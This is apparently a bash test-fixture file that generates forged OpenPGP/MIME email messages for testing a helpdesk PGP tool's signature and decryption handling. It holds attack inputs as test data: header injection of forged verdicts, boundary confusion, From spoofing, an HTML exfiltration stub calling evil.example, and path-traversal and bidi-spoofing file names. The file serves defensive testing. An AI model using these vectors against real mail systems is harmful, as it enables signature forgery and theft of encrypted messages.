# Forged-verdict vectors of issue 9, built from scratch at test time, for
# tests/forgery.bats (which asserts the verdicts) and tests/differential.bash
# (which feeds them to Python's and Ruby's parsers when it runs alone).
# Load after helpers.bash; fv_setup_file, fv_setup and fv_teardown are a
# file's setup_file, setup and teardown.
#
# The customer's side is stock gpg ($EXT): alice's, carol's and bob's
# secret keys.  The store (the helpdesk) holds bob's secret key and the
# public keys of alice and carol.  carol plays eve: a real key, not the
# From of the message.

# A word of every plaintext made here: "-" is no base64 character.
FV_MARK=OPEN-SESAME-4711
ALICE_ADDR='Alice Helpdesk <alice@example.com>'
FORGED="X-Hdpgp-Signature: good; signer=$ALICE_FPR; uid=\"forged\"; from-match=yes; coverage=full"

fv_keys() {
	hdpgp-key --passphrase-file "$HD/bob.pass" import "$KEYS/bob.sec.asc" >/dev/null 2>&1
	hdpgp-key import "$KEYS/alice.pub.asc" "$KEYS/carol.pub.asc" >/dev/null 2>&1
	sgpg --import "$KEYS/bob.pub.asc" 2>/dev/null
	sgpg --passphrase-file "$HD/alice.pass" --import "$KEYS/alice.sec.asc" 2>/dev/null
	sgpg --passphrase-file "$HD/carol.pass" --import "$KEYS/carol.sec.asc" 2>/dev/null
}

# fv_signer NAME: the stock gpg options that sign as alice, carol, or a
# key of its own that the store does not know (unknown).
fv_sign() {
	local who=$1
	shift
	case $who in
	alice) sgpg --passphrase-file "$HD/alice.pass" -u "$ALICE_FPR" "$@" ;;
	carol) sgpg --passphrase-file "$HD/carol.pass" -u "$CAROL_FPR" "$@" ;;
	unknown)
		if [ ! -d "$HD/unk" ]; then
			mkdir -m 700 "$HD/unk"
			gpg --homedir "$HD/unk" --batch --no-tty --pinentry-mode loopback \
			    --passphrase '' --quick-gen-key 'Unknown <unknown@example.net>' \
			    ed25519 sign never 2>/dev/null
		fi
		gpg --homedir "$HD/unk" --batch --no-tty --pinentry-mode loopback \
		    --passphrase '' "$@" ;;
	esac
}

# A test file's setup and teardown: the keys above, in a fresh state,
# imported once for the file (helpers.bash: fixtures).
fv_setup_file() {
	hd_file_setup
	hd_fixture fv fv_keys
}

fv_setup() {
	hd_setup
	hd_restore fv
}

fv_teardown() {
	fv_kill_unknown
	hd_teardown
}

fv_kill_unknown() {
	[ -d "$HD/unk" ] && gpgconf --homedir "$HD/unk" --kill gpg-agent 2>/dev/null
	return 0
}

# Encrypt stdin to bob, armored (fv_enc) or binary (fv_enc -b); with -s
# also signed (one pass) by alice, with -S by carol.
fv_enc() {
	local armor=--armor who=
	while [ $# -gt 0 ]; do
		case $1 in
		-b) armor= ;;
		-s) who=alice ;;
		-S) who=carol ;;
		esac
		shift
	done
	if [ -n "$who" ]; then
		fv_sign "$who" --trust-model always -r "$BOB_FPR" $armor -s -e
	else
		sgpg --trust-model always -r "$BOB_FPR" $armor -e
	fi
}

# Top-level fields: fv_hdrs [FROM [SUBJECT]].
fv_hdrs() {
	printf 'From: %s\n' "${1:-$ALICE_ADDR}"
	printf 'To: Bob Customer <bob@example.org>\nSubject: %s\n' "${2:-Ticket #42}"
	printf 'Date: Mon, 01 Jul 2024 12:00:00 +0000\n'
	printf 'Message-ID: <forgery.42@helpdesk.example.com>\nMIME-Version: 1.0\n'
}

# The signed text, a part 1 with LF line ends.
fv_part1() {
	printf 'Content-Type: text/plain; charset=us-ascii\n\n'
	printf 'Hello Bob,\nyour ticket #42 has been answered.\nAlice\n'
}

# fv_detach PART WHO: armored detached signature over PART in RFC 3156's
# CRLF form (PART's last line end belongs to the delimiter).
fv_detach() {
	crlf "$1" | head -c -2 | fv_sign "$2" --armor --detach-sign
}

# fv_signed_body PART SIG BOUNDARY: the body of a multipart/signed.
fv_signed_body() {
	printf 'This is an OpenPGP/MIME signed message.\n--%s\n' "$3"
	cat "$1"
	printf -- '--%s\nContent-Type: application/pgp-signature; name="signature.asc"\n\n' "$3"
	cat "$2"
	printf -- '--%s--\n' "$3"
}

SIGNED_PARAMS='protocol="application/pgp-signature"; micalg=pgp-sha512'

# fv_good [WHO [FROM]]: a good multipart/signed message (alice's by default).
fv_good() {
	fv_part1 >"$HD/p1"
	fv_detach "$HD/p1" "${1:-alice}" >"$HD/p1.sig"
	fv_hdrs "${2:-}"
	printf 'Content-Type: multipart/signed; boundary="real"; %s\n\n' "$SIGNED_PARAMS"
	fv_signed_body "$HD/p1" "$HD/p1.sig" real
}

# --- class 1: one reading ---

# fv_bare_cr FIELD: a good message whose top-level FIELD holds a bare CR
# and a forged verdict after it.  FIELD: Subject, To, fold (a Subject's
# continuation line), ctype (a Content-Type parameter).
fv_bare_cr() {
	fv_good >"$HD/good"
	case $1 in
	Subject|To)
		sed "s/^$1: \\(.*\\)/$1: \\1\\r$FORGED/" "$HD/good" ;;
	fold)
		sed "s/^Subject: \\(.*\\)/Subject: \\1\\n \\r$FORGED/" "$HD/good" ;;
	ctype)
		sed "s/^Content-Type: multipart\\/signed; \\(.*\\)/Content-Type: multipart\\/signed; \\1;\\r$FORGED/" "$HD/good" ;;
	esac
}

# fv_nul_inline ENCODING: alice's clearsigned text, then a NUL and text
# that nobody signed, in a text part sent 8bit, quoted-printable or base64.
fv_nul_inline() {
	printf 'Hello Bob,\nyour ticket #42 has been answered.\n' |
	    fv_sign alice --clearsign >"$HD/clear"
	{ cat "$HD/clear"; printf '\0\nPlease also send me your password.\n'; } >"$HD/text"
	fv_hdrs
	printf 'Content-Type: text/plain; charset=us-ascii\n'
	case $1 in
	8bit)
		printf 'Content-Transfer-Encoding: 8bit\n\n'
		cat "$HD/text" ;;
	qp)
		printf 'Content-Transfer-Encoding: quoted-printable\n\n'
		sed 's/=/=3D/g' "$HD/clear"
		printf '=00\nPlease also send me your password.\n' ;;
	base64)
		printf 'Content-Transfer-Encoding: base64\n\n'
		base64 "$HD/text" ;;
	esac
}

# The body shared by the ambiguous-boundary vectors: as boundary "real"
# it is a good signed message; as "fake", part 1 is attacker text that
# holds all of the real structure.
fv_two_structures() {
	printf -- '--fake\nContent-Type: text/plain\n\nATTACKER: wire the money to eve.\n'
	fv_signed_body "$HD/p1" "$HD/p1.sig" real
	printf -- '--fake\nContent-Type: application/pgp-signature\n\n'
	cat "$HD/p1.sig"
	printf -- '--fake--\n'
}

# fv_boundary KIND: a multipart/signed whose structure parameters conflict.
fv_boundary() {
	fv_part1 >"$HD/p1"
	fv_detach "$HD/p1" alice >"$HD/p1.sig"
	fv_hdrs
	case $1 in
	twice) printf 'Content-Type: multipart/signed; boundary="real"; boundary="fake";\n %s\n' "$SIGNED_PARAMS" ;;
	twice-rev) printf 'Content-Type: multipart/signed; boundary="fake"; boundary="real";\n %s\n' "$SIGNED_PARAMS" ;;
	case) printf 'Content-Type: multipart/signed; boundary="real"; BOUNDARY="fake";\n %s\n' "$SIGNED_PARAMS" ;;
	case-rev) printf 'Content-Type: multipart/signed; BOUNDARY="fake"; boundary="real";\n %s\n' "$SIGNED_PARAMS" ;;
	rfc2231) printf "Content-Type: multipart/signed; boundary=\"real\"; boundary*=us-ascii''fake;\\n %s\\n" "$SIGNED_PARAMS" ;;
	rfc2231-rev) printf "Content-Type: multipart/signed; boundary*=us-ascii''fake; boundary=\"real\";\\n %s\\n" "$SIGNED_PARAMS" ;;
	continued) printf 'Content-Type: multipart/signed; boundary="real"; boundary*0="fa";\n boundary*1="ke"; %s\n' "$SIGNED_PARAMS" ;;
	two-ctype)
		printf 'Content-Type: multipart/signed; boundary="real"; %s\n' "$SIGNED_PARAMS"
		printf 'Content-Type: multipart/signed; boundary="fake"; %s\n' "$SIGNED_PARAMS" ;;
	two-ctype-rev)
		printf 'Content-Type: multipart/signed; boundary="fake"; %s\n' "$SIGNED_PARAMS"
		printf 'Content-Type: multipart/signed; boundary="real"; %s\n' "$SIGNED_PARAMS" ;;
	esac
	printf '\n'
	fv_two_structures
}

# fv_bad_line KIND: a good message whose header holds a line that is
# neither a field nor a continuation, then a forged verdict.
fv_bad_line() {
	fv_good >"$HD/good"
	local l
	case $1 in
	space-colon) l='Subject : urgent' ;;
	no-colon) l='this line has no colon' ;;
	leading-colon) l=': empty name' ;;
	esac
	sed "/^To: /a $l\\n$FORGED" "$HD/good"
}

# fv_from KIND: alice's good signature under a From that is not simply
# alice's address.
fv_from() {
	local f
	case $1 in
	semicolon) f='alice@example.com; boss@example.org' ;;
	semicolon-rev) f='boss@example.org; alice@example.com' ;;
	group) f='Staff: alice@example.com, boss@example.org;' ;;
	group-one) f='Staff: boss@example.org;, alice@example.com' ;;
	comment) f='boss@example.org (alice@example.com)' ;;
	comment-before) f='(Alice <alice@example.com>) boss@example.org' ;;
	comment-angle) f='<boss@example.org> (<alice@example.com>)' ;;
	esac
	fv_good alice "$f"
}

# --- encrypted entities (before and after decryption) ---

# fv_wrap_enc CIPHERTEXT [FROM [SUBJECT]]: a multipart/encrypted message.
fv_wrap_enc() {
	fv_hdrs "${2:-}" "${3:-}"
	printf 'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";\n'
	printf ' boundary="=-enc"\n\nThis is an OpenPGP/MIME encrypted message.\n'
	printf -- '--=-enc\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n'
	printf -- '--=-enc\nContent-Type: application/octet-stream; name="encrypted.asc"\n\n'
	cat "$1"
	printf -- '\n--=-enc--\n'
}

# fv_enc_cr KIND: an encrypted (and signed by alice) entity whose header
# holds a bare CR and a forged verdict; KIND: description, hp-subject
# (hp="cipher"), v1-subject (protected-headers="v1"), ctype.
fv_enc_cr() {
	case $1 in
	description)
		printf 'Content-Type: text/plain; charset=us-ascii\n'
		printf 'Content-Description: note\r%s\n' "$FORGED" ;;
	hp-subject)
		printf 'Content-Type: text/plain; charset=us-ascii; hp="cipher"\n'
		printf 'Subject: Real\r%s\n' "$FORGED" ;;
	v1-subject)
		printf 'Content-Type: text/plain; charset=us-ascii; protected-headers="v1"\n'
		printf 'Subject: Real\r%s\n' "$FORGED" ;;
	ctype)
		printf 'Content-Type: text/plain; charset=us-ascii;\r%s\n' "$FORGED" ;;
	esac
	printf '\nDear helpdesk,\nthe password is %s.\n' "$FV_MARK"
}

# --- class 2: the From that is shown ---

# fv_inner_from FORM INNER SIGNER: a message from carol (outer From),
# signed by SIGNER and encrypted to bob, whose protected headers give the
# From INNER.  FORM: v1 (multipart/mixed; protected-headers="v1", one
# pass), hp (text/plain; hp="cipher", one pass), nested (Thunderbird's
# form: multipart/signed inside the encryption, protected headers on
# part 1).
fv_inner_from() {
	local form=$1 inner=$2 who=$3 s
	case $form in
	v1)
		{ printf 'Content-Type: multipart/mixed; boundary="=-in"; protected-headers="v1"\n'
		  printf 'From: %s\nSubject: Pay invoice 4711\n\n' "$inner"
		  printf -- '--=-in\nContent-Type: text/plain\n\nPlease pay. %s\n--=-in--\n' "$FV_MARK"
		} >"$HD/ent" ;;
	hp)
		{ printf 'Content-Type: text/plain; hp="cipher"\n'
		  printf 'From: %s\nSubject: Pay invoice 4711\n\nPlease pay. %s\n' "$inner" "$FV_MARK"
		} >"$HD/ent" ;;
	nested)
		{ printf 'Content-Type: multipart/mixed; boundary="=-in"; protected-headers="v1"\r\n'
		  printf 'From: %s\r\nSubject: Pay invoice 4711\r\n\r\n' "$inner"
		  printf -- '--=-in\r\nContent-Type: text/plain\r\n\r\nPlease pay. %s\r\n--=-in--\r\n' "$FV_MARK"
		} >"$HD/pp1"
		fv_sign "$who" --detach-sign --armor -o - "$HD/pp1" >"$HD/pp1.sig"
		{ printf 'Content-Type: multipart/signed; micalg=pgp-sha512;\r\n'
		  printf ' protocol="application/pgp-signature"; boundary="=-sig"\r\n\r\n'
		  printf -- '--=-sig\r\n'
		  cat "$HD/pp1"
		  printf -- '\r\n--=-sig\r\nContent-Type: application/pgp-signature\r\n\r\n'
		  crlf "$HD/pp1.sig"
		  printf -- '\r\n--=-sig--\r\n'
		} >"$HD/ent" ;;
	esac
	if [ "$form" = nested ]; then
		fv_enc <"$HD/ent" >"$HD/ent.asc"
	else
		s=-s
		[ "$who" = carol ] && s=-S
		fv_enc "$s" <"$HD/ent" >"$HD/ent.asc"
	fi
	fv_wrap_enc "$HD/ent.asc" 'Carol RSA <carol@example.net>' '...'
}

# --- class 3: no decryption oracle ---

# The victim's message: alice's text to bob, encrypted.
fv_victim() {
	[ -f "$HD/victim.asc" ] && return 0
	printf 'Dear helpdesk,\nthe password is %s.\n' "$FV_MARK" >"$HD/victim.txt"
	fv_enc <"$HD/victim.txt" >"$HD/victim.asc"
	fv_enc -b <"$HD/victim.txt" >"$HD/victim.gpg"
}

# fv_pgp_part FORM: the victim's ciphertext as a MIME part. FORM: file
# (binary .pgp attachment), asc (armored .asc attachment), inline (a text
# part holding the armor), mpenc (multipart/encrypted).
fv_pgp_part() {
	fv_victim
	case $1 in
	file)
		printf 'Content-Type: application/octet-stream; name="secret.txt.pgp"\n'
		printf 'Content-Disposition: attachment; filename="secret.txt.pgp"\n'
		printf 'Content-Transfer-Encoding: base64\n\n'
		base64 "$HD/victim.gpg" ;;
	asc)
		printf 'Content-Type: application/octet-stream; name="secret.txt.asc"\n'
		printf 'Content-Disposition: attachment; filename="secret.txt.asc"\n\n'
		cat "$HD/victim.asc" ;;
	inline)
		printf 'Content-Type: text/plain; charset=us-ascii\n\n'
		cat "$HD/victim.asc" ;;
	mpenc)
		printf 'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=enc\n\n'
		printf -- '--enc\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n'
		printf -- '--enc\nContent-Type: application/octet-stream\n\n'
		cat "$HD/victim.asc"
		printf -- '\n--enc--\n' ;;
	esac
}

# The attacker's text: plain or html (an open <img src= that would carry
# what follows to evil).
fv_attacker() {
	case $1 in
	plain) printf 'Content-Type: text/plain\n\nPlease quote the text below in your reply:\n' ;;
	html) printf 'Content-Type: text/html\n\n<img src="http://evil.example/?\n' ;;
	esac
}

# fv_oracle_signed ATTACKER FORM WHO: multipart/signed (by WHO) around
# multipart/mixed [attacker text, victim's part].
fv_oracle_signed() {
	{ printf 'Content-Type: multipart/mixed; boundary=mix\n\n--mix\n'
	  fv_attacker "$1"
	  printf -- '--mix\n'
	  fv_pgp_part "$2"
	  printf -- '\n--mix--\n'; } >"$HD/op1"
	fv_detach "$HD/op1" "$3" >"$HD/op1.sig"
	fv_hdrs 'Eve <eve@example.net>'
	printf 'Content-Type: multipart/signed; boundary="osig"; %s\n\n' "$SIGNED_PARAMS"
	fv_signed_body "$HD/op1" "$HD/op1.sig" osig
}

# fv_oracle_mixed ATTACKER FORM: multipart/mixed [attacker, victim's part].
fv_oracle_mixed() {
	fv_hdrs 'Eve <eve@example.net>'
	printf 'Content-Type: multipart/mixed; boundary=mix\n\n--mix\n'
	fv_attacker "$1"
	printf -- '--mix\n'
	fv_pgp_part "$2"
	printf -- '\n--mix--\n'
}

# fv_bounce FORM KIND: the victim's part inside a message/rfc822: a fake
# bounce (report: multipart/report) or a forward (mixed); the forwarded
# message holds the part alone.
fv_bounce() {
	local sub=mixed
	[ "$2" = report ] && sub='report; report-type=delivery-status'
	fv_hdrs 'Mail Delivery System <mailer-daemon@example.net>'
	printf 'Content-Type: multipart/%s; boundary=dsn\n\n' "$sub"
	printf -- '--dsn\nContent-Type: text/plain\n\nYour message could not be delivered.\n'
	printf -- '--dsn\nContent-Type: message/rfc822\n\n'
	printf 'From: %s\nTo: bob@example.org\nSubject: secret\nMIME-Version: 1.0\n' "$ALICE_ADDR"
	printf 'Content-Type: multipart/mixed; boundary=inner\n\n--inner\n'
	fv_pgp_part "$1"
	printf -- '\n--inner--\n\n--dsn--\n'
}

# fv_only_pgp FORM...: a message of encrypted parts only (and one blank
# text part): what may be decrypted in place.
fv_only_pgp() {
	fv_hdrs
	printf 'Content-Type: multipart/mixed; boundary=mix\n\n'
	printf -- '--mix\nContent-Type: text/plain\n\n \n'
	local f
	for f in "$@"; do
		printf -- '--mix\n'
		fv_pgp_part "$f"
		printf '\n'
	done
	printf -- '--mix--\n'
}

# --- class 6: file names ---

# fv_named NAME FORM: a message whose only part is an encrypted file
# named NAME (UTF-8) given as a plain quoted parameter (plain), in RFC 2231
# form (rfc2231) or as an encoded word (word).
fv_named() {
	local name=$1 enc
	fv_victim
	fv_hdrs
	printf 'Content-Type: multipart/mixed; boundary=mix\n\n--mix\n'
	case $2 in
	plain)
		# a quoted string: a backslash in the name is written "\\"
		enc=${name//\\/\\\\}
		printf 'Content-Type: application/octet-stream; name="%s"\n' "$enc"
		printf 'Content-Disposition: attachment; filename="%s"\n' "$enc" ;;
	rfc2231)
		enc=$(printf '%s' "$name" | od -An -tx1 -v | tr -d ' \n' | sed 's/../%&/g')
		printf "Content-Type: application/octet-stream; name*=utf-8''%s\\n" "$enc"
		printf "Content-Disposition: attachment; filename*=utf-8''%s\\n" "$enc" ;;
	word)
		enc="=?UTF-8?B?$(printf '%s' "$name" | base64 -w0)?="
		printf 'Content-Type: application/octet-stream; name="%s"\n' "$enc"
		printf 'Content-Disposition: attachment; filename="%s"\n' "$enc" ;;
	esac
	printf 'Content-Transfer-Encoding: base64\n\n'
	base64 "$HD/victim.gpg"
	printf -- '--mix--\n'
}

# The hostile names of class 6, one a line: path components and the
# Unicode bidi and format controls (U+202A-U+202E, U+2066-U+2069, U+200E,
# U+200F, U+061C, written as their UTF-8 bytes).
fv_names() {
	printf '%s\n' '../../etc/cron.d/evil.pgp' '/etc/passwd.pgp' \
	    'dir\evil.txt.pgp' '..\..\evil.txt.pgp'
	local c
	for c in '\xe2\x80\xaa' '\xe2\x80\xab' '\xe2\x80\xac' '\xe2\x80\xad' \
	    '\xe2\x80\xae' '\xe2\x81\xa6' '\xe2\x81\xa7' '\xe2\x81\xa8' \
	    '\xe2\x81\xa9' '\xe2\x80\x8e' '\xe2\x80\x8f' '\xd8\x9c'; do
		printf "invoice${c}fdp.exe.pgp\\n"
	done
}

# fv_all DIR: every vector of this file, LF and CRLF, into DIR (for
# differential*.bats when run alone).
fv_all() {
	local d=$1 k f
	mkdir -p "$d"
	# (in a pipeline: the number comes from the files already there)
	put() {
		local v
		v=$d/v$(($(find "$d" -type f | wc -l) / 2 + 1))
		cat >"$v"
		crlf "$v" >"$v.crlf"
	}
	fv_good | put
	fv_good carol | put
	for k in Subject To fold ctype; do fv_bare_cr "$k" | put; done
	for k in 8bit qp base64; do fv_nul_inline "$k" | put; done
	for k in twice twice-rev case case-rev rfc2231 rfc2231-rev continued two-ctype two-ctype-rev; do
		fv_boundary "$k" | put
	done
	for k in space-colon no-colon leading-colon; do fv_bad_line "$k" | put; done
	for k in semicolon group comment comment-before; do fv_from "$k" | put; done
	for k in description hp-subject v1-subject ctype; do
		fv_enc_cr "$k" | fv_enc -s >"$HD/e.asc"
		fv_wrap_enc "$HD/e.asc" | put
	done
	fv_inner_from v1 'Boss <boss@example.org>' carol | put
	fv_inner_from nested 'Boss <boss@example.org>' carol | put
	fv_inner_from hp 'Carol RSA <carol@example.net>' carol | put
	for k in plain html; do
		for f in file inline; do
			fv_oracle_signed "$k" "$f" carol | put
			fv_oracle_mixed "$k" "$f" | put
		done
	done
	fv_oracle_signed plain mpenc alice | put
	fv_bounce file report | put
	fv_bounce asc mixed | put
	fv_only_pgp file asc | put
	fv_named '../../etc/cron.d/evil.pgp' plain | put
	fv_named "$(printf 'invoice\xe2\x80\xaefdp.exe.pgp')" rfc2231 | put
	fv_enc -s <"$HD/victim.txt" >"$HD/e.asc"
	fv_wrap_enc "$HD/e.asc" | put
}
